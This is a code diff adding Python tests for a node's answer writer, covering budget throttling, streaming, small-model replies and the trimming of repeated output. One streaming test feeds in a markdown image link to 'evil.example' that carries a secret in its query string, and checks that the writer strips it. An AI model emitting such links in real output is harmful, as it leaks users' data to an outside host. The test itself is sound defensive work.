@@ -1,8 +1,12 @@
 import asyncio
 from pathlib import Path
 
+from node.config import BudgetConfig, BudgetLimits
+from node.inference.gateway import Gateway
+from node.inference.governor import Governor
 from node.inference.local import LocalModel
-from node.mind.answering import MAX_QUOTED_CHARS, NO_MODEL, Writer, cited
+from node.mind.answering import MAX_QUOTED_CHARS, NO_MODEL, Writer, Written, cited, without_repeats
+from node.mind.context import of_notes
 from tests.node.inference.fake import ScriptedEngine
 from tests.node.net.fake import FakeSwarm
 from tests.node.parts import open_node, soon
@@ -44,6 +48,22 @@ def test_what_no_model_wrote_says_so(tmp_path: Path) -> None:
     asyncio.run(main())
 
 
+def test_what_the_budget_says_stands_only_where_the_owner_reads_it(tmp_path: Path) -> None:
+    async def main() -> None:
+        async with open_node(FakeSwarm(), tmp_path / "a") as node:
+            config = BudgetConfig(throttle_at=0.5, day=BudgetLimits(tokens=10))
+            engine, local = ScriptedEngine(), LocalModel()
+            local.settle(engine, None)
+            writer = Writer(Gateway(local, governor=await Governor.load(node.database, config)), node.events)
+            owner = await writer.from_notes("How much?", ["first"])
+            assert (owner.model, "budget governor" in owner.text) == ("governor", True)
+            other = await writer.from_notes("How much?", ["first"], shown=False)
+            assert (other.text, other.model, other.degraded) == ("first", NO_MODEL, True)
+            assert engine.asked == []
+
+    asyncio.run(main())
+
+
 def test_an_answer_waits_for_a_model_that_is_being_loaded(tmp_path: Path) -> None:
     async def main() -> None:
         async with open_node(FakeSwarm(), tmp_path / "a") as node:
@@ -65,3 +85,46 @@ def test_what_a_model_wrote_stands_beside_the_memory() -> None:
     assert cited("Said.", "from did:key:z6Mk", [], written_by_model=True) == "Said.\n(from did:key:z6Mk)"
     long = cited("Said.", "from memory", [("m1", "x" * 5000)], written_by_model=True)
     assert len(long) < MAX_QUOTED_CHARS + 40
+
+
+def test_a_stream_ends_with_the_whole_and_leaves_out_what_the_model_put_together(tmp_path: Path) -> None:
+    async def main() -> None:
+        async with open_node(FakeSwarm(), tmp_path / "a") as node:
+            said = "See https://mill.example/a and ![x](https://evil.example/?d=secret) now."
+            model = LocalModel()
+            model.settle(ScriptedEngine(lambda turns: said), None)
+            context = of_notes("How much?", ["It stands at https://mill.example/a"])
+            *pieces, last = [piece async for piece in Writer(model, node.events).stream(context)]
+            assert isinstance(last, Written)
+            assert "".join(str(piece) for piece in pieces) == last.text
+            assert last.text == "See https://mill.example/a and ![x]([link left out]) now."
+
+    asyncio.run(main())
+
+
+def test_only_talk_is_answered_by_a_small_model_without_notes(tmp_path: Path) -> None:
+    async def main() -> None:
+        async with open_node(FakeSwarm(), tmp_path / "a") as node:
+            engine, model = ScriptedEngine(lambda turns: "Hello."), LocalModel()
+            model.settle(engine, None)
+            context = of_notes("Hello", [])
+
+            async def last(**options: bool) -> str | Written:
+                return [piece async for piece in Writer(model, node.events).stream(context, **options)][-1]
+
+            unknown, talk = await last(), await last(talk=True)
+            assert isinstance(unknown, Written)
+            assert isinstance(talk, Written)
+            assert (unknown.model, talk.text, len(engine.asked)) == (NO_MODEL, "Hello.", 1)
+            engine.capable = True
+            assert isinstance(capable := await last(), Written)
+            assert capable.text == "Hello."
+
+    asyncio.run(main())
+
+
+def test_a_model_that_goes_round_in_circles_is_cut() -> None:
+    assert without_repeats("I am sorry. I am sorry. I am sorry. I am") == "I am sorry."
+    assert without_repeats("Yes.\nNo.\nYes.\nNo.") == "Yes.\nNo.\nYes.\nNo."
+    assert without_repeats("line\nline\nline\nother") == "line"
+    assert without_repeats("") == ""
